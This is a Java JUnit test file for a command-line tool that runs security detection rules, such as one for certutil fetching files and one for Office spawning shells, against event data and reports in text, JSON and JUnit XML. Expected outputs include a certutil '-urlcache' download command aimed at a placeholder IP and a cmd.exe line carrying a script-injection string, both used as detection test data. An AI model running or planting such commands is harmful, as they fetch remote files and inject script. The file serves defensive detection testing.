package karst.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

class TestCommandTest {
  @TempDir private Path folder = Path.of("");

  private static final String SAMPLE = "src/test/resources/content";
  private static final String DATA = SAMPLE + "/data";
  private static final String NOISY = "Endpoint.Processes=" + DATA + "/processes.csv";

  private static String withoutTime(String out) {
    return out.replaceAll("\\d+ ms", "N ms")
        .replaceAll("\"milliseconds\":\\d+", "\"milliseconds\":0");
  }

  @Test
  void eachTestHasALine() {
    Outcome outcome = Outcome.of("test", SAMPLE, "--data", DATA);
    assertEquals(
        """
        passed  detections/endpoint/certificate_tool_fetches_file.yml: True Positive Test
        passed  detections/endpoint/office_starts_shell.yml: True Positive Test
        passed  detections/endpoint/office_starts_shell.yml: one finding for each host, however many shells
        passed  detections/endpoint/office_starts_shell.yml: silent where documents are only read
        4 tests: 4 passed, 0 failed, 0 skipped; 2 detections without a test; N ms
        """,
        withoutTime(outcome.out()));
    assertEquals(0, outcome.exit());
  }

  @Test
  void aFailureHasAReasonAndAnExitCode() {
    Outcome outcome = Outcome.of("test", SAMPLE, "--filter", "id=*7a02", "--benign", NOISY);
    assertEquals(1, outcome.exit());
    assertEquals(
        """
        skipped detections/endpoint/certificate_tool_fetches_file.yml: True Positive Test
                there is no file for https://example.org/recordings/T1105/certificate/processes.csv
        failed  detections/endpoint/certificate_tool_fetches_file.yml: silent on benign data
                expected no rows, found 1: _time=1700007200; dest=pc03; user=eve; process=certutil.exe -urlcache -f http://192.0.2.1/a b; count=1
        2 tests: 0 passed, 1 failed, 1 skipped; 0 detections without a test; N ms
        """,
        withoutTime(outcome.out()));
  }

  @Test
  void jsonHasTheSame() {
    Outcome outcome =
        Outcome.of("test", SAMPLE, "--data", DATA, "--filter", "id=*7a02", "--format", "json");
    assertEquals(
        """
        {"tests":1,"passed":1,"failed":0,"skipped":0,"untested":0,"milliseconds":0,"results":[
        {"file":"detections/endpoint/certificate_tool_fetches_file.yml","detection":"Certificate Tool Fetches File","test":"True Positive Test","status":"passed","reason":"","milliseconds":0}
        ]}
        """,
        withoutTime(outcome.out()));
  }

  @Test
  void aParserOfXmlReadsTheReport() throws Exception {
    Outcome outcome =
        Outcome.of("test", SAMPLE, "--data", DATA, "--benign", NOISY, "--format", "junit");
    Document document =
        DocumentBuilderFactory.newInstance()
            .newDocumentBuilder()
            .parse(new ByteArrayInputStream(outcome.out().getBytes(StandardCharsets.UTF_8)));
    Element root = document.getDocumentElement();
    assertEquals("testsuites", root.getTagName());
    assertEquals("8", root.getAttribute("tests"));
    assertEquals("2", root.getAttribute("failures"));
    assertEquals("2", root.getAttribute("skipped"));
    assertEquals(4, document.getElementsByTagName("testsuite").getLength());
    Element failure = (Element) document.getElementsByTagName("failure").item(1);
    String message = failure.getAttribute("message");
    assertTrue(message.contains("cmd.exe /c echo <script>alert(1)</script>"), message);
  }

  @Test
  void benignEventsAreNamedByTheirPath() throws IOException {
    Path content = Files.createDirectories(folder.resolve("content/detections"));
    Files.writeString(content.resolve("a.yml"), "name: A\nsearch: sourcetype=s a=1 | table a\n");
    String events = Files.writeString(folder.resolve("e.jsonl"), "{\"a\":1}\n").toString();
    Outcome other = Outcome.of("test", folder + "/content", "--benign", events);
    assertEquals(0, other.exit(), other.out() + other.err());
    Outcome same = Outcome.of("test", folder + "/content", "--benign", events + ",sourcetype=s");
    assertEquals(1, same.exit(), same.out() + same.err());
    assertTrue(same.out().contains("expected no rows, found 1: a=1"), same.out());
  }

  @Test
  void recordsThatCannotBeReadAreCountedWithTheirPlaces() throws IOException {
    Path content = Files.createDirectories(folder.resolve("content/detections"));
    Files.writeString(
        content.resolve("a.yml"),
        "name: A\n"
            + "search: a=1 | table a\n"
            + "tests:\n"
            + "  - name: t\n"
            + "    attack_data:\n"
            + "      - data: https://example.org/x/events.jsonl\n");
    Files.writeString(
        content.resolve("b.yml"),
        "name: B\n"
            + "search: a=1 | table a\n"
            + "tests:\n"
            + "  - name: t\n"
            + "    attack_data:\n"
            + "      - data: https://example.org/x/events.jsonl\n");
    Files.writeString(folder.resolve("events.jsonl"), "{\"a\":1}\n{\"a\":\n{\"a\":2}\n");
    Outcome outcome = Outcome.of("test", folder + "/content", "--data", folder.toString());
    assertEquals(0, outcome.exit(), outcome.err());
    assertEquals(1, outcome.err().split("is left out", -1).length - 1, outcome.err());
    assertTrue(outcome.err().contains("events.jsonl` cannot be read and is left out (line 2"));
    assertFalse(outcome.out().contains("left out"), outcome.out());
  }
}
